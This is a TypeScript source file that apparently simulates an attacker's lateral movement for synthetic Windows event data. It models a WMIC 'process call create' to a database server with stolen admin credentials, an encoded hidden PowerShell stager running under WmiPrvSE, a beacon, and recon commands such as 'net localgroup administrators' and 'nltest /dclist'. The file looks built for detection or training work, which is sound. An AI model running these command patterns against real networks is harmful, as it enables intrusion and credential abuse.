// To the database server by WMI: a command from the first machine, a PowerShell below WmiPrvSE on the second.
import type { World } from '../world.ts';
import { PROGRAMS } from '../windows/programs.ts';
import { encoded, STAGER } from './attacker.ts';
import { ask, beaconFrom, logOnWithStolen, run, type Foothold } from './foothold.ts';

export function moveByWmi(world: World, foothold: Foothold, at: number, until: number): void {
  const { machine: first, elevated } = foothold;
  const { machine, booted } = world.server('SQL01');
  const command = `powershell -NoP -W Hidden -Enc ${encoded(STAGER)}`;
  const wmic = run(
    first,
    at,
    elevated,
    PROGRAMS.wmic,
    `="C:\\Windows\\System32\\wbem\\WMIC.exe" /node:${machine.host.name} /user:${machine.company.domain}\\adm.lindqvist process call create "${command}"`,
  );
  first.connect(wmic, at + 200, { ip: machine.host.ip, port: 135, name: machine.host.fqdn });
  first.connect(wmic, at + 260, { ip: machine.host.ip, port: 49_669, name: machine.host.fqdn });
  machine.accept(booted.svchost.rpcss, at + 210, { ip: first.host.ip, port: 51_544, name: first.host.fqdn }, 135);
  const logon = logOnWithStolen(machine, at + 300, foothold);
  const provider = machine.start({
    ts: at + 500,
    parent: booted.svchost.dcomLaunch,
    program: PROGRAMS.wmiPrvSe,
    commandLine: 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding',
    logon: machine.systemLogon,
    integrity: 'System',
  });
  const beacon = machine.start({
    ts: at + 700,
    parent: provider,
    program: PROGRAMS.powershell,
    commandLine: command,
    logon,
    integrity: 'High',
  });
  first.exit(wmic, at + 1500);
  machine.scriptBlock(beacon, at + 1400, STAGER);
  beaconFrom(machine, beacon, at + 2500, until);
  let ts = at + 90_000;
  for (const [program, argument] of [
    [PROGRAMS.whoami, '=whoami /groups'],
    [PROGRAMS.net, '=net localgroup administrators'],
    [PROGRAMS.nltest, `=nltest /dclist:${machine.company.dnsDomain}`],
    [PROGRAMS.ping, '=ping -n 1 dc01'],
  ] as const) {
    const shell = run(
      machine,
      (ts += machine.random.between(15_000, 60_000)),
      beacon,
      PROGRAMS.cmd,
      `="C:\\Windows\\system32\\cmd.exe" /c ${argument.slice(1)}`,
    );
    ask(machine, ts + 80, shell, program, argument);
    machine.exit(shell, ts + 2900);
  }
}
